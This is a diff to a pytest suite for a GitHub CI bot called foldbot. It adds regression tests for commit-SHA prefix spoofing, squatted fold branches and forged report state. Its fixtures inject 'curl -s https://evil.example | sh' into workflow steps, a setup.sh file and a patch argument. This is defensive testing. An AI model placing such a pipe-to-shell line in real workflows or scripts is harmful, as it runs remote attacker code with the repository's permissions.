@@ -17,8 +17,10 @@ import pytest
 import yaml
 
 from bot.publish import read_state
+from bot.verify import apply_patch
 from bot.replies import REPLY_MARKER
 from bot.report import state_block
+from bot.edit import patch_id as compute_patch_id
 from bot.states import ReportState
 from tests.paths import AMD, BEFORE, ROCM720
 from tests.sglang_current import LANES
@@ -121,7 +123,11 @@ async def test_dispatch_on_a_fork_pr_needs_the_reviewed_head(fake_github: FakeGi
     first, second = replies(fake_github, world, number)
     assert "This PR comes from a fork: name the commit you reviewed" in first.body
     assert "`1234567` is not this PR's head" in second.body
+    # a prefix of it is not enough: the fork's author can make another commit of the same first digits
     await say(bot, world, number, f"/dispatch rocm720 sha={sha[:12]}", "writer")
+    assert fake_github.dispatches == []
+    assert "takes the full 40-digit SHA" in replies(fake_github, world, number)[-1].body
+    await say(bot, world, number, f"/dispatch rocm720 sha={sha}", "writer")
     (dispatch,) = fake_github.dispatches
     assert dispatch.ref == "main"
     assert dict(dispatch.inputs) == {"target_stage": ",".join(skipped_targets()), "pr_head_sha": sha}
@@ -661,6 +667,33 @@ async def test_approving_again_after_the_default_branch_moved_links_the_same_pr(
     assert world.repo.branch_sha(branch) == changed
 
 
+@pytest.mark.parametrize("parent", ["main", "off main"])
+async def test_a_fold_branch_someone_pushed_before_the_approval_is_never_proposed(fake_github: FakeGitHub, bot: Bot,
+                                                                                  parent: str) -> None:
+    """Someone with `write` reads the patch id on the public report and pushes `foldbot/fold-<id>`
+    first: one commit changing the patch's lane files, to their own content, its message ending in
+    foldbot's signature (on main, or on a commit of their own, whose changes a PR would bring too).
+    It passed for foldbot's own commit (one parent, the signature, the same files changed), and the
+    maintainer's approval opened a PR of it under foldbot's name."""
+    world, number, patch_id, report = await reported_pr(fake_github, bot)
+    state = ReportState.from_json(read_state(report.body))
+    files = world.repo.files_at("main")
+    evil = {path: files[path].replace("    steps:\n", "    steps:\n      - run: curl -s https://evil.example | sh\n", 1)
+            for path in apply_patch(state.patch, {p: files[p] for p in state.blobs})}
+    branch = f"foldbot/fold-{patch_id}"
+    message = f"foldbot: x\n\nPatch {patch_id}, proposed by foldbot and approved on its pull request."
+    if parent == "off main":  # the patch itself, on a commit of theirs that changes more than the patch
+        world.repo.put_files("side", {"setup.sh": "curl -s https://evil.example | sh\n"})
+        world.repo.create_branch(branch, "side")
+        evil = apply_patch(state.patch, {p: files[p] for p in state.blobs})
+    world.repo.put_files(branch, evil, message=message)
+    squatted = world.repo.branch_sha(branch)
+    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
+    assert f"The branch `{branch}` already exists with other content" in replies(fake_github, world, number)[-1].body
+    assert world.repo.branch_sha(branch) == squatted
+    assert not [p for p in world.repo.pulls.values() if p.head_ref == branch]
+
+
 def dashboard_comment(world, body: str, login: str) -> dict:  # noqa: ANN001
     """An `issue_comment` delivery for a comment on foldbot's dashboard issue (not a PR)."""
     (board,) = [i for i in world.repo.issues.values() if i.user == LOGIN and i.title == "foldbot: AMD CI setup report"]
@@ -855,15 +888,33 @@ async def test_a_moved_base_is_recomputed_and_not_committed(fake_github: FakeGit
     assert "# a new comment" in world.repo.files_at(f"foldbot/fold-{new_id}")[ROCM720]
 
 
-async def test_a_report_whose_patch_does_not_match_its_id_is_not_committed(fake_github: FakeGitHub, bot: Bot) -> None:
+SIGNATURE_REFUSED = ("The report's hidden state does not carry foldbot's signature: someone edited the report, or it "
+                     "was written with a webhook secret this foldbot no longer has. Nothing was committed. `/fold "
+                     "refresh` writes the report again; approve its patch then.")
+
+
+@pytest.mark.parametrize("id_too", [False, True])
+async def test_a_report_whose_state_someone_edited_is_not_committed(fake_github: FakeGitHub, bot: Bot,
+                                                                    id_too: bool) -> None:
+    """GitHub lets anyone with `write` edit foldbot's report, and approving needs `maintain`. A patch
+    of their own in the state block, its id made to match (and shown in the text), was committed
+    by a maintainer's approval under foldbot's name, with the App's `workflows` permission."""
     world, number, patch_id, report = await reported_pr(fake_github, bot)
-    state = ReportState.from_json(read_state(report.body))
-    tampered = replace(state, patch=state.patch.replace("--total-partitions 2", "--total-partitions 1"))
-    report.body = report.body.replace(state_block(state.to_json()), state_block(tampered.to_json()))
-    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
+    data = read_state(report.body)
+    state = ReportState.from_json(data)
+    evil = state.patch.replace("--total-partitions 2", "--total-partitions 2 && curl -s https://evil.example | sh")
+    forged = replace(state, patch=evil, patch_id=compute_patch_id(evil) if id_too else state.patch_id)
+    shown = forged.patch_id
+    report.body = report.body.replace(state_block(data), state_block({**forged.to_json(), "sig": data["sig"]})) \
+        .replace(patch_id, shown)
+    assert read_state(report.body)["patch_id"] == shown
+    await say(bot, world, number, f"/fold approve {shown}", "lead")
     assert fake_github.count("POST", r"/git/") == 0
-    assert f"The report's patch does not match its id `{patch_id}`; nothing was committed." in \
-        replies(fake_github, world, number)[0].body
+    assert SIGNATURE_REFUSED in replies(fake_github, world, number)[0].body
+    # `/fold refresh` writes it again, signed: its patch is approved then
+    await say(bot, world, number, "/fold refresh", "lead")
+    await say(bot, world, number, f"/fold approve {patch_id}", "lead")
+    assert f"with patch `{patch_id}` on branch `foldbot/fold-{patch_id}`" in replies(fake_github, world, number)[-1].body
 
 
 async def test_a_forged_state_block_is_ignored(fake_github: FakeGitHub, bot: Bot) -> None:
@@ -1034,7 +1085,8 @@ async def test_help_with_a_broken_config_says_what_is_broken_and_still_helps(fak
         f"> /fold help\n\n{error}\n\nUntil that is fixed, every command but this one is refused. What they do (the "
         "permissions are the defaults; `.github/foldbot.yml` may set others):\n\nfoldbot's commands on a pull request:"
         "\n\n- `/dispatch <lane> [<job-id> ...] [sha=<hex>]`: run the GPU jobs of a lane that its change filter skipped "
-        "(or the named jobs); needs **write**. On a PR from a fork, `sha=` must name the head commit you reviewed.\n"
+        "(or the named jobs); needs **write**. On a PR from a fork, `sha=` must name the head commit you reviewed, by "
+        "its full 40-digit SHA.\n"
         "- `/fold approve [<patch-id>]`: commit the report's patch on a branch and open a PR; needs **maintain**.\n"
         "- `/fold refresh`: recompute the report from the latest lane run of this PR.\n- `/fold help`: this text.")
     assert refresh_part.startswith(f"> /fold refresh\n\n{error}\n")
